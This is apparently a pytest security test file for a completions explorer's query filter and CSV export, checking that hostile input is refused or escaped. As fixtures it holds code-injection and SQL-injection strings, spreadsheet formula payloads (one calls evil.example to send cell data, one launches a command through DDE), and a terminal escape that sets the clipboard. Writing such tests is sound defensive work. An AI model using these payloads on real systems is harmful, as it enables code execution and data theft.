"""Attack: what a student types into the completions explorer's query (the `where` filter, the search, the sort,
the step range) and what a run's own text puts into an exported CSV (issue 46).

- Code and SQL in `--where` (held: the filter is a tree of comparisons read by a tokenizer, never evaluated;
  anything else is refused naming the field, with exit 2 and no traceback from the command);
- filters nested or chained past the parser's limits (held: refused, or answered, in well under a second);
- a search longer than the regular-expression engine compiles (broke: pyarrow's case-insensitive substring
  kernel compiles the text as a pattern and raised ArrowInvalid, a traceback, for a search of a megabyte, as
  the Explore tab's prompt history makes of a long prompt; fixed: a long search is matched as plain text in
  the lower-cased columns, and one longer than any line can be is refused naming the search);
- a run's reward names and texts holding terminal escapes (broke: the command's table and its `--sort` message
  printed them to the terminal of whoever looked, an admin's included);
- a run's completions beginning with a formula after leading whitespace (broke: ` =HYPERLINK(...)`, a
  non-breaking space or a newline before `=`, `+`, `-` or `@` passed unescaped into the CSV, which spreadsheets
  trim and run as a formula).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import time

import pytest
from helpers import tiny_config

from workbench.cli import main
from workbench.errors import WorkbenchError
from workbench.insight.completion_search import CompletionQuery, export_completions, search_completions
from workbench.insight.completion_where import MAX_DEPTH, MAX_WHERE_CHARS, parse_where
from workbench.runstore import runfolder

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    " =1+1",
    "  +cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    " \t @SUM(1,1)",
    "-2+3",
    "@me",
]


@pytest.fixture
def run(tmp_path):
    run_dir = tmp_path / "runs" / "20260101-000001-alice"
    run_dir.mkdir(parents=True)
    tiny_config().save(run_dir / runfolder.CONFIG_FILE)
    records = [
        {
            "step": i + 1,
            "group": 0,
            "prompt": text,
            "completion": text,
            "rewards": {text: 1.0},
            "reward": 1.0,
            "advantage": 0.0,
            "length": 3,
            "truncated": False,
        }
        for i, text in enumerate([*FORMULAS, "plain text"])
    ]
    runfolder.append_jsonl(run_dir / runfolder.COMPLETIONS_FILE, records)
    return run_dir, tmp_path / "cache"


HOSTILE_WHERE = [
    "__import__('os').system('touch /tmp/pwned')",
    "step.__class__.__mro__<1",
    "reward<1; DROP TABLE completions",
    "reward<1 -- comment",
    "reward<1 /* c */",
    "prompt=='x' or 1=1",
    "prompt=='x'' or ''1''=''1'",
    "reward<(1)",
    "reward<1 and",
    "lambda: 1",
    "reward<1 # c",
    "exec('1')",
    "reward<0x10",
]


@pytest.mark.parametrize("text", HOSTILE_WHERE)
def test_code_or_sql_in_the_filter_is_refused_naming_the_field(text):
    with pytest.raises(WorkbenchError) as raised:
        parse_where(text)
    assert raised.value.field == "where" and "write comparisons" in str(raised.value)


def test_deep_or_long_filters_are_refused_or_answered_quickly(run):
    run_dir, cache = run
    deep = ["not " * (MAX_DEPTH + 1) + "reward<1", "(" * 10_000 + "reward<1" + ")" * 10_000, "x" * 10**6]
    for text in deep:
        with pytest.raises(WorkbenchError):
            parse_where(text)
    chained = " or ".join(["reward<1"] * (MAX_WHERE_CHARS // 12))  # as long a chain as the limit lets in
    started = time.monotonic()
    assert search_completions(run_dir, CompletionQuery(where=chained), cache_dir=cache).total == 0
    assert time.monotonic() - started < 5


def test_a_search_longer_than_the_pattern_engine_takes_is_answered_or_refused_naming_the_search(run):
    run_dir, cache = run
    long_prompt = "Q" * 600_000  # a prompt's history searches its whole prompt
    runfolder.append_jsonl(
        run_dir / runfolder.COMPLETIONS_FILE,
        [{"step": 50, "group": 0, "prompt": long_prompt, "completion": "c", "rewards": {}, "reward": 1.0}],
    )
    for search in ("ab" * 600_000, "(" * 100, ".*", "\\"):
        assert search_completions(run_dir, CompletionQuery(search=search), cache_dir=cache).total == 0
    assert search_completions(run_dir, CompletionQuery(search=long_prompt.lower()), cache_dir=cache).total == 1
    with pytest.raises(WorkbenchError) as raised:
        search_completions(run_dir, CompletionQuery(search="x" * (runfolder.READ_CHUNK_BYTES + 1)), cache_dir=cache)
    assert raised.value.field == "search"


def command(*args) -> tuple[int, str]:
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(["completions", *args])
    return code, err.getvalue()


def test_the_command_refuses_hostile_input_with_exit_2_and_one_line(run, monkeypatch):
    run_dir, cache = run
    monkeypatch.setenv("WORKBENCH_CACHE", str(cache))
    cases = [
        ("--where", HOSTILE_WHERE[0]),
        ("--where", "(" * 5000),
        ("--search", "x" * (runfolder.READ_CHUNK_BYTES + 1)),
        ("--sort", "__class__"),
        ("--limit", "100000000"),
        ("--offset", "-1"),
        ("--steps", "1:2:3"),
        ("--steps", "9:1"),
    ]
    for flag, value in cases:
        code, err = command(str(run_dir), flag, value)
        assert code == 2, (flag, value[:40], err)
        assert err.startswith(f"error: {flag}") and err.count("\n") == 1, err[:300]


def test_the_table_and_messages_send_no_terminal_escapes_a_run_wrote(run, monkeypatch, capsys):
    run_dir, cache = run
    monkeypatch.setenv("WORKBENCH_CACHE", str(cache))
    escape = "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J"  # set the clipboard, clear the screen
    runfolder.append_jsonl(
        run_dir / runfolder.COMPLETIONS_FILE,
        [{"step": 99, "group": 0, "prompt": escape, "completion": escape, "rewards": {escape: 1.0}, "reward": 1.0}],
    )
    assert main(["completions", str(run_dir), "--steps", "99"]) == 0
    code, err = command(str(run_dir), "--sort", "nothing")
    assert code == 2 and "rewards.brevity" not in err
    out = capsys.readouterr()
    for text in (out.out, out.err, err):
        assert "\x1b" not in text and "\x07" not in text, text
    assert main(["completions", str(run_dir), "--steps", "99", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["completion"] == escape  # JSON keeps the text, escaped


def test_exported_csv_cells_a_spreadsheet_would_run_are_escaped(run, tmp_path):
    run_dir, cache = run
    target = tmp_path / "out.csv"
    assert export_completions(run_dir, CompletionQuery(), target, "csv", cache_dir=cache) == len(FORMULAS) + 1
    rows = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
    for row in rows:
        for name in ("prompt", "completion", "rewards"):
            cell = row[name]
            if cell.lstrip().startswith(("=", "+", "-", "@")) or cell.startswith(("\t", "\r")):
                pytest.fail(f"{name} cell {cell!r} would run as a formula")
        if row["completion"] != "plain text":
            assert row["completion"].startswith("'")
            assert json.loads(row["rewards"])  # the rewards cell stays JSON ({ first)
    assert [r["completion"] for r in rows][-1] == "plain text"  # text that is no formula is left alone
